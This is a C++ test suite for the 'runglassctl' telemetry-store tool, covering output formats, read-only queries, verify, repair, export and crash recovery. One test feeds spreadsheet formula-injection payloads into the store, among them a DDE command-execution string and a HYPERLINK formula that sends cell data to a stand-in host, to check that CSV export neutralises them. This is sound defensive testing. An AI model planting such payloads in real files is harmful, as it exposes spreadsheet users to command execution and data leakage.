// SPDX-License-Identifier: GPL-3.0-or-later
// The shipped runglassctl as a script sees it: exit codes, stdout, one clear line on stderr.
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sqlite3.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cctype>
#include <filesystem>

#include <nlohmann/json.hpp>

#include "storage/open_store.h"
#include "storage/store_files.h"
#include "tests/app/ctl_fixture.h"
#include "tests/support/sqlite_store.h"

namespace runglass {
namespace {

using ::testing::AllOf;
using ::testing::Eq;
using ::testing::HasSubstr;
using ::testing::StartsWith;
using Json = nlohmann::json;

class CtlTest : public CtlFixture {
 protected:
  void SetUp() override { m_ids = makeSampleStore(m_store); }
  SampleStoreIds m_ids;
};

TEST_F(CtlTest, HelpIsNoErrorAndWrongUsageIsTwo) {
  const auto help = ctl({"--help"});
  EXPECT_EQ(help.exit, 0);
  for (const char* command : {"import", "info", "query", "verify", "export"}) EXPECT_THAT(help.out, HasSubstr(command));
  EXPECT_EQ(ctl({"query", "--help"}).exit, 0);
  EXPECT_EQ(ctl({}).exit, 2);
  EXPECT_EQ(ctl({"dance"}).exit, 2);
  EXPECT_EQ(ctl({"query", "--store", m_store}).exit, 2);
  EXPECT_EQ(ctl({"query", "--store", m_store, "--format", "xml", "SELECT 1"}).exit, 2);
  EXPECT_EQ(ctl({"export", "--store", m_store, "--run", "1"}).exit, 2);
  EXPECT_EQ(ctl({"export", "--store", m_store, "--run", "1", "--csv", "a", "--to", "b"}).exit, 2);
}

TEST_F(CtlTest, CsvQuotesAsRfc4180AndKeepsNullApartFromEmpty) {
  const auto outcome = query(R"(SELECT 1 AS a, NULL AS b, '' AS c, 'x,"y"' AS "d,e", 'two
lines' AS f)");
  EXPECT_EQ(outcome.exit, 0) << outcome.err;
  EXPECT_EQ(outcome.out, "a,b,c,\"d,e\",f\n1,,\"\",\"x,\"\"y\"\"\",\"two\nlines\"\n");
}

TEST_F(CtlTest, DoublesPrintTheShortestTextThatReadsBackEqual) {
  EXPECT_EQ(query("SELECT 0.1 AS a, 1e300 AS b, 1.0/3 AS c, 5e-324 AS d, -9223372036854775807 AS e").out,
            "a,b,c,d,e\n0.1,1e+300,0.3333333333333333,5e-324,-9223372036854775807\n");
}

TEST_F(CtlTest, JsonIsAnArrayOfObjectsWithNanAndInfinityAsText) {
  const auto outcome = query("SELECT 1 AS a, NULL AS b, 9e999 AS c, -9e999 AS d, 'x\"' AS e", "json");
  const auto json = Json::parse(outcome.out, nullptr, false);
  EXPECT_EQ(json, Json::parse(R"([{"a":1,"b":null,"c":"Infinity","d":"-Infinity","e":"x\""}])"));
  EXPECT_EQ(Json::parse(query("SELECT 1 WHERE 0", "json").out, nullptr, false), Json::array());
}

TEST_F(CtlTest, TableAlignsColumns) { EXPECT_EQ(query("SELECT 'ab' AS name, 7 AS n", "table").out, "name  n\nab    7\n"); }

TEST_F(CtlTest, TheQueriesOfOutsideScriptsWork) {
  const auto points = query("SELECT tag, step, value FROM scalar ORDER BY tag, step, time_ns");
  EXPECT_EQ(std::count(points.out.begin(), points.out.end(), '\n'), 121);
  EXPECT_THAT(points.out, AllOf(StartsWith("tag,step,value\nloss,0,10\n"), HasSubstr("\nloss,70,\n"), HasSubstr("\nloss,60,0.125\n")));
  EXPECT_EQ(query("SELECT tag, min(value) AS lo, max(value) AS hi, count(*) AS n FROM scalar GROUP BY tag").out,
            "tag,lo,hi,n\nloss,0.0625,10,120\n");
  EXPECT_EQ(query("SELECT s.category AS c, count(*) AS n, coalesce(sum(s.dur_ns),0) AS d FROM span s JOIN track t USING(track_id) "
                  "WHERE t.kind='gpu_stream' GROUP BY 1")
                .out,
            "c,n,d\ncomm,5,2816\ncompute,5,3520\n");
}

TEST_F(CtlTest, WritingIsRefusedAndTheStoreStaysAsItWas) {
  const std::string before = contentOf(m_store);
  for (const char* sql : {"DELETE FROM rg_run", "DROP TABLE rg_chunk", "PRAGMA journal_mode=WAL", "ATTACH 'x.db' AS x", "VACUUM"})
    expectFails(query(sql), "query refused");
  EXPECT_EQ(contentOf(m_store), before);
}

TEST_F(CtlTest, BadSqlIsOneLineWithTheReason) {
  expectFails(query("SELEC 1"), "syntax error");
  expectFails(query("SELECT nope FROM run"), "no such column");
  expectFails(query("SELECT * FROM sample(12345)"), "there is no such series");
}

TEST_F(CtlTest, AHugeResultStreamsInLittleMemory) {
  const auto outcome =
      query("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i < 1000000) SELECT i, 'text of some length' FROM n");
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(std::count(outcome.out.begin(), outcome.out.end(), '\n'), 1000001);
}

TEST_F(CtlTest, InfoCountsWhatIsThere) {
  const auto outcome = ctl({"info", "--store", m_store, "--json"});
  ASSERT_EQ(outcome.exit, 0) << outcome.err;
  const auto json = Json::parse(outcome.out);
  EXPECT_EQ(json["samples"], kStoreSamples + 160);
  EXPECT_EQ(json["spans"], 20);
  EXPECT_EQ(json["events"], 1);
  EXPECT_EQ(json["runs"].size(), 1u);
  EXPECT_EQ(json["runs"][0]["name"], "pretrain");
  EXPECT_EQ(json["runs"][0]["attempts"], 2);
  EXPECT_EQ(json["runs"][0]["last_step"], 119);
  EXPECT_EQ(json["first_ns"], kStoreStart);
  EXPECT_GT(json["bytes_per_sample"], 0.0);
  EXPECT_EQ(json["ingest_issues"][0]["code"], "tfevents.bad_data_crc");
  EXPECT_EQ(json["ingest_issues"][0]["count"], 2);
  EXPECT_FALSE(json["ingest_issues"][0]["help"].is_null());
  const auto text = ctl({"info", "--store", m_store});
  EXPECT_THAT(text.out, AllOf(HasSubstr("pretrain: finished"), HasSubstr("tfevents.bad_data_crc x2")));
}

TEST_F(CtlTest, VerifyIsCleanOrNamesTheDamageAndExitsOne) {
  const auto clean = ctl({"verify", "--store", m_store, "--json"});
  EXPECT_EQ(clean.exit, 0) << clean.out;
  EXPECT_EQ(Json::parse(clean.out)["ok"], true);
  sqlite3* db = nullptr;
  ASSERT_EQ(test::openDatabase(m_store, &db), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(db, "UPDATE rg_chunk SET crc = crc + 1 WHERE chunk_id = (SELECT max(chunk_id) FROM rg_chunk)", nullptr, nullptr,
                         nullptr),
            SQLITE_OK);
  sqlite3_close(db);
  const auto damaged = ctl({"verify", "--store", m_store, "--json"});
  expectFails(damaged, "sample chunk");
  const Json found = Json::parse(damaged.out)["damaged"];
  ASSERT_EQ(found.size(), 1u);
  EXPECT_THAT(found[0]["object"].get<std::string>(), StartsWith("sample chunk "));
  EXPECT_EQ(found[0]["why"], "checksum mismatch");
  EXPECT_EQ(Json::parse(damaged.out)["page_checksums"], true);
}

TEST_F(CtlTest, RepairMakesACleanStoreAndListsWhatIsLost) {
  std::string content = contentOf(m_store);
  const std::size_t event = content.find("fell off the bus");
  ASSERT_NE(event, std::string::npos);
  content[event] = 'F';
  const std::string damaged = m_folder.file("damaged.rgl"), repaired = m_folder.file("repaired.rgl");
  std::ofstream(damaged, std::ios::binary) << content;
  expectFails(ctl({"verify", "--store", damaged}), "page ");
  const auto outcome = ctl({"repair", "--store", damaged, "--to", repaired, "--json"});
  EXPECT_EQ(outcome.exit, 0) << outcome.err;
  const auto json = Json::parse(outcome.out);
  EXPECT_EQ(json["complete"], false);
  EXPECT_EQ(json["rows"]["rg_run"], 1);
  ASSERT_FALSE(json["lost"].empty());
  EXPECT_THAT(json["lost"][0]["object"].get<std::string>(), HasSubstr("rg_event"));
  EXPECT_THAT(json["lost"][0]["why"].get<std::string>(), HasSubstr("does not match its checksum"));
  EXPECT_EQ(ctl({"verify", "--store", repaired}).exit, 0);
  expectFails(ctl({"repair", "--store", damaged, "--to", repaired}), "already");
  EXPECT_EQ(ctl({"repair", "--store", damaged}).exit, 2);
}

TEST_F(CtlTest, WhatIsNoStoreGetsOneClearLine) {
  const auto with = [&](const std::string& name, const std::string& content) {
    std::ofstream(m_folder.file(name), std::ios::binary) << content;
    return ctl({"query", "--store", m_folder.file(name), "SELECT 1"});
  };
  expectFails(ctl({"info", "--store", m_folder.file("missing.rgl")}), "No such file");
  expectFails(ctl({"info", "--store", m_folder.path()}), "not a regular file");
  expectFails(
      with("notes.txt", "just some text, long enough to be more than a header of a hundred bytes, and then some more of the same text\n"),
      "not a Runglass store");
  std::string garbage(100'000, '\0');
  for (std::size_t i = 0; i < garbage.size(); ++i) garbage[i] = static_cast<char>(i * 2654435761u >> 13);
  expectFails(with("garbage.bin", garbage), "not a Runglass store");
  expectFails(with("empty.rgl", ""), "not a Runglass store");
  expectFails(with("cut.rgl", contentOf(m_store).substr(0, 5000)), "cut.rgl");
}

TEST_F(CtlTest, AnotherProgramsDatabaseAndAStoreFromTheFutureAreRefused) {
  const std::string other = m_folder.file("other.db");
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(other.c_str(), &db), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(db, "CREATE TABLE t(a)", nullptr, nullptr, nullptr), SQLITE_OK);
  sqlite3_close(db);
  expectFails(ctl({"info", "--store", other}), "not a Runglass store");
  ASSERT_EQ(test::openDatabase(m_store, &db), SQLITE_OK);
  ASSERT_EQ(sqlite3_exec(db, "PRAGMA user_version=4711", nullptr, nullptr, nullptr), SQLITE_OK);
  sqlite3_close(db);
  for (const char* command : {"info", "verify"}) expectFails(ctl({command, "--store", m_store}), "newer");
}

TEST_F(CtlTest, ReadingLeavesNoFilesBesideAClosedStore) {
  query("SELECT * FROM run");
  ctl({"info", "--store", m_store});
  std::vector<std::string> names;
  for (const auto& file : std::filesystem::directory_iterator(m_folder.path())) {
    if (file.path().filename().string().starts_with("s.rgl")) names.push_back(file.path().filename());
  }
  EXPECT_THAT(names, ::testing::Not(::testing::Contains("s.rgl-wal")));
  EXPECT_THAT(names, ::testing::Not(::testing::Contains("s.rgl-ingest")));
}

TEST_F(CtlTest, ExportWritesAStoreThatAnswersTheSame) {
  const std::string to = m_folder.file("slice.rgl");
  const auto outcome = ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--to", to});
  ASSERT_EQ(outcome.exit, 0) << outcome.err;
  EXPECT_EQ(ctl({"query", "--store", to, "--format", "csv", "SELECT run_uuid FROM run"}).out, "run_uuid\nrun-uuid-1\n");
  EXPECT_EQ(ctl({"verify", "--store", to}).exit, 0);
  expectFails(ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--to", to}), "there already");
  expectFails(ctl({"export", "--store", m_store, "--run", "4711", "--to", m_folder.file("no.rgl")}), "no run 4711");
}

TEST_F(CtlTest, ExportsACsvFilePerRelation) {
  const std::string folder = m_folder.file("csv");
  const auto outcome = ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--csv", folder});
  ASSERT_EQ(outcome.exit, 0) << outcome.err;
  const std::string samples = contentOf(folder + "/sample.csv");
  EXPECT_EQ(std::count(samples.begin(), samples.end(), '\n'), kStoreSamples + 1);
  EXPECT_THAT(contentOf(folder + "/scalar_all.csv"),
              StartsWith("run_id,attempt,rank,source,tag,step,time_ns,value,series_id,superseded,thinned\n"));
  EXPECT_THAT(contentOf(folder + "/event.csv"), HasSubstr("fell off the bus"));
}

TEST_F(CtlTest, NoTextOfAnExportedCsvIsAFormulaAndNumbersStayNumbers) {
  const std::vector<std::string> evil = {
      "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x/\"&A1)", "=cmd|' /C calc'!A0", "\uFF1D1+1", "=a,b"};
  {
    auto writer = openStore(m_store).writer();
    ASSERT_TRUE(writer.ok()) << writer.status().message();
    const AttemptId attempt = (*writer)->attempt({.run = (*writer)->run({.uuid = "run-uuid-1", .name = "pretrain"}), .key = "0"});
    for (const std::string& text : evil) {
      (*writer)->event({.time = wallNow(), .attempt = attempt, .kind = text, .code = text, .message = text});
      (*writer)->fact({.attempt = attempt, .key = "k" + text, .value = text});
    }
    const SeriesId series = (*writer)->series({.attempt = attempt, .metric = "-tag", .kind = SeriesKind::kScalar});
    (*writer)->scalars(series, std::vector<std::int64_t>{-7}, {}, std::vector<double>{-0.25});
    ASSERT_TRUE((*writer)->close().ok());
  }
  const std::string folder = m_folder.file("csv");
  ASSERT_EQ(ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--csv", folder}).exit, 0);
  int cells = 0;
  for (const auto& file : std::filesystem::directory_iterator(folder)) {
    const std::string csv = contentOf(file.path());
    bool quoted = false;
    for (std::size_t i = 0; i + 1 < csv.size(); ++i) {
      const bool begins = !quoted && (i == 0 || csv[i - 1] == ',' || csv[i - 1] == '\n');
      if (csv[i] == '"') quoted = !quoted;
      if (!begins) continue;
      ++cells;
      const std::string_view cell = std::string_view(csv).substr(csv[i] == '"' ? i + 1 : i);
      const bool number = csv[i] == '-' && (std::isdigit(static_cast<unsigned char>(csv[i + 1])) != 0);
      EXPECT_TRUE(number || std::string_view("=+-@\t\r").find(cell.front()) == std::string_view::npos)
          << file.path().filename() << ": " << cell.substr(0, 40);
      EXPECT_FALSE(cell.starts_with("\uFF1D")) << file.path().filename();
    }
  }
  EXPECT_GT(cells, 100);
  const std::string events = contentOf(folder + "/event.csv");
  EXPECT_THAT(events, HasSubstr(R"x("'=HYPERLINK(""http://x/""&A1)")x"));
  EXPECT_THAT(contentOf(folder + "/scalar_all.csv"), HasSubstr(R"x(,"'-tag",-7,,-0.25,)x"));
  EXPECT_THAT(query("SELECT DISTINCT message FROM event WHERE message = '+1'").out, Eq("message\n+1\n")) << "scripts get what is stored";
}

TEST_F(CtlTest, ExportsAChromeTraceWithExactTimes) {
  const std::string file = m_folder.file("trace.json");
  const auto outcome = ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--chrome-trace", file});
  ASSERT_EQ(outcome.exit, 0) << outcome.err;
  const auto trace = Json::parse(contentOf(file));
  EXPECT_EQ(trace["baseTimeNanoseconds"], kStoreStart);
  int complete = 0, open = 0;
  for (const auto& event : trace["traceEvents"]) {
    complete += event["ph"] == "X";
    open += event["ph"] == "B";
  }
  EXPECT_EQ(complete, 18);
  EXPECT_EQ(open, 2);
  EXPECT_THAT(contentOf(file), AllOf(HasSubstr("\"ts\":1.000,\"dur\":0.701"), HasSubstr(R"("args":{"grid":[1,2,3]})")));
  expectFails(ctl({"export", "--store", m_store, "--run", std::to_string(m_ids.run.value), "--chrome-trace", file}), "exists");
}

TEST_F(CtlTest, WhatAKilledWriterAcknowledgedIsLeftToRecover) {
  // A process that journals a batch and dies without closing. The payload is invalid, so replaying it leaves an issue, which proves the
  // replay.
  const pid_t child = ::fork();
  if (child == 0) {
    auto writer = openStore(m_store).writer();
    if (!writer.ok()) ::_exit(1);
    const StreamKey stream{.agent = "agent-x", .session = "s1", .stream = 0};
    ::_exit((*writer)->journal(stream, 0, "\xff\xff\xff garbage").ok() ? 0 : 1);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  ASSERT_EQ(WEXITSTATUS(status), 0);
  ASSERT_TRUE(needsRecovery(m_store));
  const auto contents = [&] {
    std::map<std::string, std::string> files;
    for (const auto& entry : std::filesystem::directory_iterator(m_folder.path()))
      if (entry.path().string().starts_with(m_store) && !entry.path().string().ends_with("-shm"))
        files[entry.path().filename()] = contentOf(entry.path());
    return files;
  };
  const auto before = contents();
  for (const std::vector<std::string>& looks : std::initializer_list<std::vector<std::string>>{{"query", "--store", m_store, "SELECT 1"},
                                                                                               {"info", "--store", m_store},
                                                                                               {"status", "--store", m_store},
                                                                                               {"verify", "--store", m_store}}) {
    const auto look = ctl(looks);
    EXPECT_EQ(look.exit, 0) << looks[0];
    EXPECT_THAT(look.err, HasSubstr("1 acknowledged batches are still in the journal")) << looks[0];
    EXPECT_THAT(look.err, HasSubstr("runglassctl recover --store " + m_store)) << looks[0];
    EXPECT_EQ(contents(), before) << looks[0] << " changed something";
  }
  const auto recovered = ctl({"recover", "--store", m_store});
  EXPECT_EQ(recovered.exit, 0) << recovered.err;
  EXPECT_EQ(recovered.out, m_store + ": 1 batches recovered\n");
  EXPECT_FALSE(needsRecovery(m_store));
  const auto outcome = query("SELECT sum(count) FROM ingest_issue WHERE code LIKE 'wire.%'");
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_EQ(outcome.err, "");
  EXPECT_THAT(outcome.out, ::testing::MatchesRegex("sum\\(count\\)\n[1-9][0-9]*\n"));
  EXPECT_EQ(ctl({"recover", "--store", m_store}).out, m_store + ": nothing to recover\n");
  EXPECT_NE(ctl({"recover", "--store", m_store + ".no"}).exit, 0);
  EXPECT_FALSE(std::filesystem::exists(m_store + ".no"));
  EXPECT_EQ(ctl({"verify", "--store", m_store}).exit, 0);
}

// The process that holds a snapshot of the store, from SQLite's read locks; 0: none. Checked in a separate process, because closing -shm
// here would release the locks of this one.
int snapshotHolder(const std::string& store) {
  const pid_t child = ::fork();
  if (child == 0) {
    struct flock lock {};
    lock.l_type = F_WRLCK;
    lock.l_whence = SEEK_SET;
    lock.l_start = 123;
    lock.l_len = 5;
    const int fd = ::open((store + "-shm").c_str(), O_RDWR);
    ::_exit(fd < 0 || ::fcntl(fd, F_GETLK, &lock) != 0 ? 2 : lock.l_type == F_UNLCK ? 0 : 1);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  return WEXITSTATUS(status);
}

TEST_F(CtlTest, AQueryWhoseOutputIsNotReadHoldsNoSnapshot) {
  const auto writer = openStore(m_store).writer();
  ASSERT_TRUE(writer.ok());
  for (int i = 0; i < 2'000; ++i) (*writer)->event({.time = i, .kind = "e", .message = std::string(200, 'x')});
  ASSERT_TRUE((*writer)->flush().ok());
  std::FILE* const paused =
      ::popen((std::string(RG_BIN_DIR) + "/runglassctl query --store " + m_store + " 'SELECT * FROM event'").c_str(), "r");
  ASSERT_NE(paused, nullptr);
  ASSERT_NE(std::fgetc(paused), EOF) << "it prints, and waits for its reader from now on";
  EXPECT_TRUE(test::waitUntil([&] { return snapshotHolder(m_store) == 0; }));
  ::pclose(paused);
}

// Opening and closing it would release SQLite's locks on it.
TEST_F(CtlTest, AnImportLeavesItsOwnStoreInTheFolderAlone) {
  std::ofstream(m_folder.file("loss.csv")) << "step,loss\n1,2.5\n";
  const auto outcome = ctl({"import", "--store", m_store, m_folder.path(), "--json"});
  const Json result = Json::parse(outcome.out, nullptr, false);
  ASSERT_FALSE(result.is_discarded()) << outcome.out << outcome.err;
  EXPECT_THAT(outcome.out, HasSubstr("this is a store that is open"));
  EXPECT_EQ(ctl({"verify", "--store", m_store}).exit, 0);
}

TEST_F(CtlTest, WritersThroughALinkBesideAHubAreRefused) {
  const std::string link = m_folder.file("current.rgl"), log = m_folder.file("loss.csv");
  std::filesystem::create_symlink("s.rgl", link);
  std::ofstream(log) << "step,loss\n1,2.5\n";
  const auto hub = openStore(m_store).writer();
  ASSERT_TRUE(hub.ok());
  const std::string holder = "another process writes it, pid " + std::to_string(::getpid());
  for (const std::vector<std::string>& writes : std::initializer_list<std::vector<std::string>>{
           {"serve", "--store", link, "--listen", "127.0.0.1:0"}, {"import", "--store", link, log}, {"recover", "--store", link}})
    expectFails(ctl(writes), holder);
  const auto analyzed = ctl({"analyze", "--store", link});
  EXPECT_THAT(analyzed.err, HasSubstr(holder));
  EXPECT_THAT(ctl({"status", "--store", link}).out, HasSubstr(std::to_string(::getpid())));
}

// The test holds the port (or another program does): the answer of serve then has the default port.
TEST_F(CtlTest, ServeListensOnTheDocumentedPortByDefault) {
  const int own = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in address{};
  address.sin_family = AF_INET;
  address.sin_port = htons(7070);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (::bind(own, reinterpret_cast<sockaddr*>(&address), sizeof address) == 0) {
    ASSERT_EQ(::listen(own, 1), 0);
  }
  expectFails(ctl({"serve", "--store", m_folder.file("new.rgl")}), "listen: 127.0.0.1:7070: Address already in use");
  ::close(own);
}

TEST_F(CtlTest, ServePrintsTheCommandThatStartsAnAgentForIt) {
  const std::string store = m_folder.file("new.rgl");
  const pid_t hub = start({"serve", "--store", store, "--listen", "127.0.0.1:0"});
  std::string out;
  for (int i = 0; i < 3000 && std::ranges::count(out, '\n') < 2; ++i) {
    ::usleep(10'000);
    out = contentOf(m_folder.file("stdout"));
  }
  ::kill(hub, SIGTERM);
  ::waitpid(hub, nullptr, 0);
  const std::string listening = "listening on ", hint = "start an agent on this machine: ";
  ASSERT_TRUE(out.starts_with(listening)) << out;
  const std::string address = out.substr(listening.size(), out.find('\n') - listening.size());
  EXPECT_EQ(out.substr(out.find('\n') + 1), hint + RG_BIN_DIR "/runglass-agent --hub " + address + "\n");
}

TEST_F(CtlTest, AStoreThatIsBeingWrittenCanBeReadButNotImportedInto) {
  auto writer = openStore(m_store).writer();
  ASSERT_TRUE(writer.ok()) << writer.status().message();
  (*writer)->run({.name = "second"});
  ASSERT_TRUE((*writer)->flush().ok());
  EXPECT_EQ(query("SELECT name FROM run ORDER BY 1").out, "name\npretrain\nsecond\n");
  std::ofstream(m_folder.file("log.txt")) << "nothing much\n";
  expectFails(ctl({"import", "--store", m_store, m_folder.file("log.txt")}), "pid " + std::to_string(::getpid()));
}

TEST_F(CtlTest, AFullDiskOnStdoutIsSaid) {
  if (::access("/dev/full", W_OK) != 0) GTEST_SKIP() << "no /dev/full here";
  const std::string command =
      std::string(RG_BIN_DIR "/runglassctl query --store ") + m_store + " --format csv 'SELECT 1' > /dev/full 2> " + m_folder.file("err");
  EXPECT_EQ(WEXITSTATUS(std::system(command.c_str())), 1);
  EXPECT_THAT(contentOf(m_folder.file("err")), HasSubstr("No space left"));
}

}  // namespace
}  // namespace runglass
